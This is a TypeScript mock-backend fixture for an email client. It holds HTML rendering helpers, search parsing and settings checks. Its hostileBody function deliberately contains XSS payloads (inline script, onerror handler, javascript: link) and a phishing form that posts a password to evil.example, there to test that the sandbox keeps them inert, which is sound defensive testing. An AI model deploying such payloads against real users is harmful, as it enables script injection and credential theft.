// Content the MockBackend serves where Rust would compute it: sanitised-looking
// HTML documents (one with blocked remote images, one deliberately hostile to
// prove the sandbox holds), a substring matcher with spans, and settings checks.
import type { MessageSummary } from '../../bindings/MessageSummary';
import type { RenderedBody } from '../../bindings/RenderedBody';
import type { Settings } from '../../bindings/Settings';
import type { Span } from '../../bindings/Span';

export const escapeHtml = (s: string) =>
  s.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c] ?? c);

/** What the mock's "sanitiser" produced for one message. */
export interface MockBody {
  /** Body markup with remote images replaced by placeholders. */
  blocked: string;
  /** The same with remote images in place (served once allowed). */
  allowed: string;
  /** Remote references in `blocked` that were replaced. */
  remoteBlocked: number;
}

/** Wraps body markup the way the Rust renderer does: a whole document, links open a new window. */
export function documentFor(body: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><meta name="color-scheme" content="light"><base target="_blank"><style>body{font:15px/1.5 system-ui,sans-serif;margin:0;padding:0.5rem;background:#fff;color:#1f1b16;overflow-wrap:anywhere}img{max-width:100%}.ember-remote-placeholder{display:inline-block;padding:0.5rem;border:1px dashed #999;color:#777;font-size:13px}</style></head><body>${body}</body></html>`;
}

export function plainBody(m: MessageSummary): MockBody {
  const html = `<p>${escapeHtml(m.snippet)}</p><p>Read more at <a href="https://example.com/read/${m.id}" target="_blank" rel="noopener noreferrer">example.com</a>.</p>`;
  return { blocked: html, allowed: html, remoteBlocked: 0 };
}

/** A newsletter with two tracking-style remote images. */
export function remoteImagesBody(): MockBody {
  const text = `<h1>This week's deals</h1><p>Fresh picks chosen for you.</p>`;
  const placeholder = `<span class="ember-remote-placeholder" data-ember-remote="1">Remote image blocked</span>`;
  return {
    blocked: `${text}${placeholder}<p>${placeholder}</p>`,
    allowed: `${text}<img alt="Deals banner" src="https://img.deals.example/banner.png"><p><img alt="" width="1" height="1" src="https://track.deals.example/open.gif"></p>`,
    remoteBlocked: 2,
  };
}

/**
 * A document as if the sanitiser had failed completely: inline script, an
 * onerror handler, a javascript: link and a form. The sandboxed frame must keep
 * all of it inert; the browser tests check that nothing runs.
 */
export function hostileBody(): MockBody {
  const html = `<p>Dear customer, please verify your account.</p>
<script>window.parent.__emberPwned = 'script'; window.__emberPwned = 'script'; alert('xss');</script>
<img src="data:image/png;base64,AAAA" onerror="window.parent.__emberPwned='onerror'; alert('xss')">
<p><a href="javascript:window.parent.__emberPwned='link'">Verify now</a></p>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">`;
  return { blocked: html, allowed: html, remoteBlocked: 0 };
}

export function rendered(body: MockBody, remoteAllowed: boolean, senderUnverified = false): RenderedBody {
  return {
    html: documentFor(remoteAllowed ? body.allowed : body.blocked),
    remoteBlocked: remoteAllowed ? 0 : body.remoteBlocked,
    remoteAllowed,
    senderUnverified: senderUnverified && !remoteAllowed && body.remoteBlocked > 0,
  };
}

/** Every case-insensitive occurrence of `needle` in `text`, as UTF-16 spans. */
export function findSpans(text: string, needle: string): Span[] {
  const spans: Span[] = [];
  if (!needle) return spans;
  const hay = text.toLowerCase();
  for (let i = hay.indexOf(needle); i >= 0; i = hay.indexOf(needle, i + needle.length)) {
    spans.push({ start: i, end: i + needle.length });
  }
  return spans;
}

/** The mock's only operator check, so the UI's error path is exercisable: dates must be dates. */
export function queryError(text: string): string | null {
  const m = /\b(before|after):(\S*)/.exec(text);
  if (m && !/^\d{4}-\d{2}-\d{2}$/.test(m[2] ?? '')) return `${m[1]}: expects a date like 2024-05-01`;
  return null;
}

/** Free text left after dropping `word:value` operators (the mock ignores them). */
export function freeText(text: string): string {
  return text
    .split(/\s+/)
    .filter((w) => w && !/^[a-z]+:/i.test(w))
    .join(' ')
    .toLowerCase();
}

export const DEFAULT_SETTINGS: Settings = {
  syncIntervalMinutes: 5,
  initialSyncDays: 90,
  initialSyncMaxMessages: 10000,
  categoriesEnabled: true,
  notificationsEnabled: true,
  remoteContentSenders: [],
  foldWorkItemMail: true,
  undoSendSeconds: 5,
  signatures: {},
};

/** The ranges the contract gives; Rust enforces the same and says which field is wrong. */
export function settingsError(s: Settings): string | null {
  const ranges: [keyof Settings, number, number, string][] = [
    ['syncIntervalMinutes', 1, 1440, 'Sync interval must be between 1 and 1440 minutes'],
    ['initialSyncDays', 1, 3650, 'Initial sync window must be between 1 and 3650 days'],
    ['initialSyncMaxMessages', 100, 1_000_000, 'Initial sync limit must be between 100 and 1,000,000 messages'],
  ];
  for (const [key, min, max, message] of ranges) {
    const v = s[key];
    if (typeof v !== 'number' || !Number.isInteger(v) || v < min || v > max) return message;
  }
  const undo = s.undoSendSeconds;
  if (!Number.isInteger(undo) || undo < 0 || undo > 60) return 'The undo window must be between 0 and 60 seconds.';
  for (const [account, signature] of Object.entries(s.signatures)) {
    if (!/^-?\d+$/.test(account)) return `"${account}" is not an account id.`;
    if ([...signature].length > 10_000) return 'A signature may be at most 10000 characters long.';
  }
  return null;
}
